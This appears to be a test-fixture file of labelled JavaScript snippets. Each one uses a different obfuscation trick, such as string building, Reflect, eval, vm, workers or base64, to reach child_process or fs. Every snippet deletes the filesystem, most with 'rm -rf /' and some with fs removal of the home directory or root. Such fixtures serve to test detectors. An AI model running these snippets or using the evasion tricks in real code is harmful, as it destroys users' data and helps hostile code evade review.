%% computed member by template
const cp = require("child_process");
const a = "ex", b = "ec";
cp[`${a}${b}`]("rm -rf /");
%% Reflect.get
const cp = require("child_process");
Reflect.get(cp, "ex" + "ec")("rm -rf /");
%% Reflect.apply
const cp = require("child_process");
Reflect.apply(cp.exec, null, ["rm -rf /"]);
%% globalThis with a built key
globalThis["ev" + "al"]("require('child_process').exec('rm -rf /')");
%% destructuring with a default
const { run = require("child_process").exec } = {};
run("rm -rf /");
%% array destructuring
const [, f] = [1, require("child_process").exec];
f("rm -rf /");
%% process.binding
const { Process } = process.binding("process_wrap");
const p = new Process();
p.spawn({ file: "/bin/rm", args: ["rm", "-rf", "/"] });
%% import expression
import("child_" + "process").then(m => m.exec("rm -rf /"));
%% import with destructured parameter
import("node:child_process").then(({ exec }) => exec("rm -rf /"));
%% fromCharCode name
const cp = require("child_process");
cp[String.fromCharCode(101, 120, 101, 99)]("rm -rf /");
%% fromCharCode with spread
const cp = require("child_process");
cp[String.fromCharCode(...[101, 120, 101, 99])]("rm -rf /");
%% array join
require(["child", "process"].join("_")).exec("rm -rf /");
%% reversed letters
require("ssecorp_dlihc".split("").reverse().join("")).exec("rm -rf /");
%% map of codes
const n = [101, 120, 101, 99].map(c => String.fromCharCode(c)).join("");
require("child_process")[n]("rm -rf /");
%% proxy
const p = new Proxy(require("child_process"), {});
p.exec("rm -rf /");
%% object spread
const o = { ...require("child_process") };
o.exec("rm -rf /");
%% Object.values
const [exec] = Object.entries(require("child_process")).filter(([k]) => k === "exec").map(([, v]) => v);
exec("rm -rf /");
%% class field
class R { run = require("child_process").exec; }
new R().run("rm -rf /");
%% static method returns it
class R { static get go() { return require("child_process").exec; } }
R.go("rm -rf /");
%% Map holds it
const m = new Map([["go", require("child_process").exec]]);
m.get("go")("rm -rf /");
%% call through then
Promise.resolve(require("child_process").exec).then(f => f("rm -rf /"));
%% forEach over functions
[require("child_process").exec].forEach(f => f("rm -rf /"));
%% timer with a text
setTimeout("require('child_process').exec('rm -rf /')", 0);
%% vm
require("vm").runInThisContext("process.mainModule.require('child_process').exec('rm -rf /')");
%% constructor of a function
(async () => {}).constructor("return process")();
[].filter.constructor("return process.mainModule.require('child_process').exec('rm -rf /')")();
%% getter with defineProperty
const o = {};
Object.defineProperty(o, "go", { get: () => require("child_process").exec });
o.go("rm -rf /");
%% logical default
let f;
f ??= require("child_process").exec;
f("rm -rf /");
%% conditional callee
(0, require("child_process").exec)("rm -rf /");
%% comma and or
const g = null || require("child_process").exec;
g("rm -rf /");
%% hex escapes in the member
require("child_process")["\x65xe\u0063"]("rm -rf /");
%% replace makes the name
require("child-process".replace("-", "_")).exec("rm -rf /");
%% slice makes the name
require("xchild_processx".slice(1, -1)).exec("rm -rf /");
%% Buffer from hex
require(Buffer.from("6368696c645f70726f63657373", "hex").toString()).exec("rm -rf /");
%% atob
eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ3JtIC1yZiAvJyk="));
%% rename of require
const r = module.require;
r("child_process").exec("rm -rf /");
%% bound
const go = require("child_process").exec.bind(null, "rm -rf /");
go();
%% fs removes home
const fs = require("fs"), os = require("os");
fs.rmSync(os.homedir(), { recursive: true, force: true });
%% fs by destructured promises
const { promises: { rm } } = require("fs");
rm("/", { recursive: true, force: true });
%% arguments object
function go() { arguments[0](arguments[1]); }
go(require("child_process").exec, "rm -rf /");
%% rest parameters
function go(...a) { a[0](a[1]); }
go(require("child_process").exec, "rm -rf /");
%% default parameter
function go(f = require("child_process").exec) { f("rm -rf /"); }
go();
%% closure returns closure
const mk = f => x => f(x);
mk(require("child_process").exec)("rm -rf /");
%% JSON parsed name
const { m, f } = JSON.parse('{"m":"child_process","f":"exec"}');
require(m)[f]("rm -rf /");
%% with a tagged template
const { execSync } = require("child_process");
execSync`rm -rf /`;
%% optional call
require("child_process")?.exec?.("rm -rf /");
%% generator gives it
function* g() { yield require("child_process").exec; }
g().next().value("rm -rf /");
%% reduce builds the name
const n = ["e", "x", "e", "c"].reduce((a, c) => a + c, "");
require("child_process")[n]("rm -rf /");
%% worker with eval
const { Worker } = require("worker_threads");
new Worker("require('child_process').exec('rm -rf /')", { eval: true });
%% label in switch
let f;
switch (1) { case 1: f = require("child_process").exec; break; }
f("rm -rf /");
%% indirect eval of a joined text
const e = eval;
e(["require('child_", "process').exec('rm -rf /')"].join(""));
